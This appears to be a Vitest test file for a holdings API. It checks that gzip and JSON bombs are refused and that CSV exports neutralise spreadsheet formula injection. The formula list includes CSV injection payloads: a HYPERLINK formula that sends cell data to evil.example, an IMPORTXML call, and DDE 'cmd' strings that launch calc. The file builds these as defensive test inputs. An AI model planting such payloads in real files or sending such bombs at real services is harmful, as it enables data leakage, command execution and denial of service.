/** Files that are no files: bombs in every packing, cells that a spreadsheet would run, and sizes that no household has. */
import { gzipSync } from 'node:zlib';
import Papa from 'papaparse';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Running } from './running.ts';

const MB = 1024 * 1024;
const GZIP = { 'content-encoding': 'gzip' };

/** What spreadsheets run, by the first character of a cell; OWASP's list, and the wide forms that some read as the same. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\t=1+1',
];

export function imports(at: () => Running): void {
  const ask: Running['ask'] = (...asked) => at().ask(...asked);

  describe('A bomb', () => {
    const csv = `Symbol,Quantity,Price\n${'VTI,1,1\n'.repeat(8)}`;
    const BOMBS: [string, string, () => Buffer, Record<string, string>, number][] = [
      ['of spaces, a thousandfold', '/api/import', () => gzipSync(Buffer.alloc(20 * MB, ' ')), GZIP, 413],
      ['of spaces, at a route for small bodies', '/api/accounts', () => gzipSync(Buffer.alloc(20 * MB, ' ')), GZIP, 413],
      [
        'that is a file of positions',
        '/api/holdings/preview',
        () => gzipSync(JSON.stringify({ text: csv + 'VTI,1,1\n'.repeat(1_000_000) })),
        GZIP,
        413,
      ],
      ['within a bomb', '/api/import', () => gzipSync(gzipSync(Buffer.alloc(20 * MB, ' '))), { 'content-encoding': 'gzip, gzip' }, 415],
      [
        'of many members, each a small one',
        '/api/import',
        () => Buffer.concat(Array.from({ length: 6 }, () => gzipSync(Buffer.alloc(5 * MB, ' ')))),
        GZIP,
        413,
      ],
      ['in another packing', '/api/import', () => gzipSync(Buffer.alloc(10 * MB, ' ')), { 'content-encoding': 'zstd' }, 415],
      ['as a zip', '/api/holdings/preview', () => Buffer.from('504b0304140000000800', 'hex'), { 'content-type': 'application/zip' }, 415],
      ['of brackets, a hundred thousand deep', '/api/import', () => Buffer.from('['.repeat(100_000)), {}, 400],
      [
        'of names, fifty thousand in one object',
        '/api/accounts',
        () => Buffer.from(`{${Array.from({ length: 25_000 }, (_, n) => `"k${n}":0`).join(',')}}`),
        {},
        413,
      ],
    ];

    test.each(BOMBS)('%s is refused, and others are answered meanwhile', async (_what, path, body, headers, status) => {
      const packed = body();
      const [refused, healthy] = await Promise.all([
        ask('bomber', 'POST', path, { body: packed, headers }),
        ask(null, 'GET', '/api/health'),
      ]);
      expect(refused).toMatchObject({ status, json: { status } });
      expect(healthy.status).toBe(200);
    });

    test('in base64 within a request is counted as what it is', async () => {
      const file = gzipSync(Buffer.alloc(20 * MB, ' ')).toString('base64');
      const { status, json } = await ask('bomber', 'POST', '/api/holdings/preview', { body: { base64: file } });
      // Its bytes are read as text, and nothing unpacks them.
      expect({ status, positions: (json as { preview?: { accounts: unknown[] } }).preview?.accounts }).toEqual({
        status: 200,
        positions: [],
      });
    });

    test('twenty at once leave the API as it was', async () => {
      const bomb = gzipSync(Buffer.alloc(20 * MB, ' '));
      const answers = await Promise.all(
        Array.from({ length: 20 }, () => ask('bomber', 'POST', '/api/import', { body: bomb, headers: GZIP })),
      );
      for (const { status } of answers) expect([413, 429, 503]).toContain(status);
      expect((await ask('bomber', 'GET', '/api/accounts')).status).toBe(200);
    });
  });

  describe('A cell', () => {
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const cellsOf = (text: string) => Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n', delimiter: ',' }).data.flat();
    beforeAll(async () => {
      // An account and a position of each name, by hand and by a file.
      for (const [index, name] of FORMULAS.entries()) {
        const made = await ask('clerk', 'POST', '/api/accounts', { body: { name: name.trim(), purpose: name.trim() } });
        expect([name, made.status]).toEqual([name, 201]);
        const { id } = made.json as { id: string };
        expect(
          (
            await ask('clerk', 'POST', `/api/accounts/${id}/positions`, {
              body: { symbol: `FRM${index}`, quantity: '1', name: name.trim(), price: { amount: '1', asOf: '2026-11-20' } },
            })
          ).status,
        ).toBe(201);
      }
      const file = `Account Name,Symbol,Description,Quantity,Last Price,Current Value\n${FORMULAS.map((name, n) => `${quoted(name)},FIL${n},${quoted(name)},1,1,1`).join('\n')}\n`;
      const { json } = await ask('clerk', 'POST', '/api/holdings/preview', { body: { text: file, asOf: '2026-11-20' } });
      const { tag } = json as { tag: string };
      expect(
        (await ask('clerk', 'POST', '/api/holdings/apply', { body: { text: file, asOf: '2026-11-20', tag, skipInvalid: true } })).status,
      ).toBe(200);
    });

    test.each(['positions', 'accounts', 'reports'])(
      'of %s.csv never begins as a formula does, and what was written comes back as it was',
      async (what) => {
        const { status, text, headers } = await ask('clerk', 'GET', `/api/export/${what}.csv`);
        expect([status, headers.get('content-type'), headers.get('content-disposition')]).toEqual([
          200,
          expect.stringContaining('text/csv'),
          expect.stringContaining('attachment'),
        ]);
        const cells = cellsOf(text);
        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        if (what !== 'reports') expect(cells.filter((cell) => cell.includes('evil.example')).length).toBeGreaterThan(1);
        if (what !== 'positions') return;
        const { difference } = (await ask('clerk', 'POST', '/api/holdings/preview', { body: { text } })).json as {
          difference: { accounts: { added: unknown[]; changed: unknown[]; removed: unknown[] }[] };
        };
        expect(difference.accounts.flatMap(({ added, changed, removed }) => [...added, ...changed, ...removed])).toEqual([]);
      },
    );
  });
}
